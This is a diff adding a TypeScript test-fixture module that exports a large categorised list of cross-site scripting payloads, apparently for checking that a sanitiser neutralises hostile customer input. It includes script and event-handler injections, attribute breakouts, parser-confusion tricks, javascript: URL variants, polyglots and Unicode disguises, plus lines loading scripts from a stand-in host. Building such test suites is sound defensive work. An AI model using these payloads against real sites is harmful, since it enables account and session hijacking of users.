@@ -1,0 +1,195 @@
+/** A name that no element of ours has: one of it in a page is a payload's. */
+export const CANARY_TAG = "x-canary";
+
+const bell = "\u0007";
+const nul = "\u0000";
+const lineSeparator = "\u2028";
+
+/** Elements: with odd case, spaces, separators and ends. */
+const elements = [
+  "<x-canary>",
+  "<X-CANARY onclick=alert(1)>",
+  "</p></div></article><x-canary id=canary>",
+  "<script>alert(1)</script>",
+  "<script src=https://canary.test/x.js></script>",
+  "<script type=module src=//canary.test/x.mjs></script>",
+  "<SCRIPT/x>alert(1)</SCRIPT\t>",
+  "<script\n>alert(1)</script\n>",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<<script>alert(1);//<</script>",
+  `<scr${nul}ipt>alert(1)</scr${nul}ipt>`,
+  "<script nonce>alert(1)</script>",
+  "<iframe srcdoc='<x-canary><script>parent.alert(1)</script>'></iframe>",
+  "<iframe src=javascript:alert(1)>",
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  "<embed src=https://canary.test/x.swf>",
+  "<portal src=https://canary.test/></portal>",
+  '<meta http-equiv=refresh content="0;url=https://canary.test/">',
+  '<meta http-equiv=Content-Security-Policy content="default-src *">',
+  '<base href="https://canary.test/">',
+  '<link rel=stylesheet href="https://canary.test/x.css">',
+  '<link rel="prerender prefetch" href="https://canary.test/">',
+  "<style>@import 'https://canary.test/x.css';*{display:none}</style>",
+  "<x-canary style=background:url(https://canary.test/x.png)>",
+  '<form action="https://canary.test/"><button>Go on</button></form>',
+  "<button form=canary formaction=javascript:alert(1)>Go on</button>",
+  "<input name=redirectTo value=https://canary.test/ autofocus onfocus=alert(1)>",
+  "<textarea><x-canary></textarea><x-canary>",
+  "<title><x-canary></title><x-canary>",
+  "<dialog open id=canary><x-canary></dialog>",
+  "<frameset onload=alert(1)><frame src=//canary.test>",
+  "<template><x-canary></template><x-canary>",
+  "<marquee onstart=alert(1)>x</marquee>",
+];
+
+/** Elements that run something by themselves. */
+const events = [
+  "<img src=x onerror=alert(1)>",
+  '<img src="https://canary.test/x.png">',
+  "<img/src='x'/onerror='alert(1)'>",
+  "<img src=x oneRRor\n=\nalert(1)>",
+  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
+  "<img srcset='https://canary.test/x.png 1x' onload=alert`1`>",
+  "<picture><source srcset=https://canary.test/x.png><img></picture>",
+  "<image src=x onerror=alert(1)>",
+  "<body onload=alert(1)>",
+  "<details open ontoggle=alert(1)>x</details>",
+  "<video autoplay onloadstart=alert(1)><source src=x onerror=alert(1)></video>",
+  "<audio src=//canary.test/x.mp3 autoplay onerror=alert(1)></audio>",
+  "<select autofocus onfocus=alert(1)>",
+  "<x-canary tabindex=1 autofocus onfocus=alert(1)>",
+  "<x-canary onanimationstart=alert(1) style=animation:x>",
+  "<x-canary onpointerrawupdate=alert(1) oncontentvisibilityautostatechange=alert(1)>",
+  `<img src=x${bell}onerror=alert(1)>`,
+];
+
+/** What leaves an attribute. */
+const attributes = [
+  '"><x-canary>',
+  "'><x-canary>",
+  '" onmouseover="alert(1)" x="',
+  "' onfocus='alert(1)' autofocus x='",
+  "` onclick=alert(1) x=`",
+  '"/onclick=alert(1)//',
+  '" style="position:fixed;inset:0" data-canary="',
+  '" id="canary" name="canary',
+  '" href="javascript:alert(1)" x="',
+  '" srcdoc="<script>alert(1)</script>" x="',
+  '" formaction="https://canary.test/" x="',
+  "&quot;&gt;&lt;x-canary&gt;",
+  "&#34;&#62;&#60;x-canary&#62;",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  '\\"><x-canary>',
+  "=\"x\" dangerouslySetInnerHTML={{__html:'<x-canary>'}}",
+];
+
+/** Other languages inside HTML, where another parser reads on. */
+const foreign = [
+  "<svg onload=alert(1)>",
+  "<svg><script>alert&#40;1)</script></svg>",
+  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+  "<svg><set attributeName=href to=javascript:alert(1)></svg>",
+  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
+  "<svg><foreignObject><x-canary></foreignObject></svg>",
+  "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  "<math href=javascript:alert(1)>x</math>",
+  "<math><annotation-xml encoding='text/html'><x-canary></annotation-xml></math>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+  "<xmp><p title='</xmp><x-canary>'>",
+  "<table><td background=javascript:alert(1)><x-canary>",
+  "<![CDATA[<x-canary>]]>",
+  "<?xml version='1.0'?><x-canary>",
+  "<!DOCTYPE html><x-canary>",
+];
+
+/** What ends the data, the script or the comment that a page carries along. */
+const embedded = [
+  "</script><script>alert(1)</script>",
+  "</script><img src=x onerror=alert(1)>",
+  "</ScRiPt ><x-canary>",
+  "<!--<script>",
+  "<!-- --!><x-canary> -->",
+  "--><x-canary><!--",
+  "]]><x-canary>",
+  "</style><x-canary>",
+  "</title><x-canary>",
+  "</noscript><x-canary>",
+  "</textarea></iframe><x-canary>",
+  `${lineSeparator}alert(1)\u2029//canary`,
+  "\\u003c/script\\u003e\\u003cx-canary\\u003e",
+  '"};alert(1);//canary',
+  '\\"),alert(1),(\\"canary',
+  "\\');alert(1);//canary",
+  "\\",
+  '{"__proto__":{"canary":1},"constructor":{"prototype":{}}}',
+  '[["SingleFetchFallback"],-5,"P1"]',
+  "`+alert(1)+`{{constructor.constructor('alert(1)')()}}",
+  "#{7*7}<%= 7*7 %>{% canary %}",
+];
+
+/** Addresses, for every field that may hold one. */
+export const addresses = [
+  "javascript:alert(1)",
+  "JaVaScRiPt:alert(1)",
+  " javascript:alert(1)",
+  "\tjava\tscript:alert(1)",
+  "java\nscript:alert(1)",
+  "java\rscript:alert(1)",
+  "\u0001javascript:alert(1)",
+  `java${nul}script:alert(1)`,
+  "\u00a0javascript:alert(1)",
+  "javascript&colon;alert(1)",
+  "&#106;avascript:alert(1)",
+  "javascript:/*--></title></style></textarea></script><x-canary>*/alert(1)",
+  "javascript://canary.test/%0aalert(1)",
+  "jav\u0430script:alert(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "DATA:text/html;base64,PHgtY2FuYXJ5Pg==",
+  "vbscript:msgbox(1)",
+  "view-source:javascript:alert(1)",
+  "blob:https://canary.test/1",
+  "filesystem:https://canary.test/1",
+  "file:///etc/passwd",
+  "intent://canary.test#Intent;scheme=javascript;end",
+  "//canary.test/protocol-relative",
+  "/logout",
+  "https:\\\\canary.test\\x",
+  "https://tapview.test@canary.test/",
+  'https://canary.test/"onmouseover="alert(1)',
+  "https://canary.test/'><x-canary>",
+  "https://canary.test/?<script>alert(1)</script>#<x-canary>",
+  "https://\u202emoc.rayp\u202c.canary.test/",
+  "mailto:a@canary.test?bcc=b@canary.test&body=<x-canary>",
+  "tel:+1555;phone-context=<x-canary>",
+];
+
+/** What disguises text, and text that looks to several parsers like their own. */
+const disguises = [
+  "photo\u202egpj.<x-canary>",
+  "\u2066\u2067<x-canary>\u2069\u2069",
+  "\u200b<\u200bscript>alert(1)<\u200b/script><x-canary>",
+  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e canary",
+  "\u02bb\u02ba><x-canary>",
+  "\ufeff<x-canary>",
+  "\ud83d<x-canary>\udc4d",
+  `${nul}<x-canary>${nul}`,
+  "+ADw-script+AD4-alert(1)+ADw-/script+AD4- canary",
+  "<\u0338x-canary><x-canary>",
+  "\r\nContent-Type: text/html\r\n\r\n<x-canary>",
+  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
+  '\'">><marquee><img src=x onerror=alert(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=alert(1)>',
+  "';alert(1)//\\';alert(1)//\";alert(1)//\\\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
+];
+
+/** What a hostile customer writes: each tries to be more than text. */
+export const xssPayloads: readonly string[] = [
+  ...elements,
+  ...events,
+  ...attributes,
+  ...foreign,
+  ...embedded,
+  ...addresses,
+  ...disguises,
+];
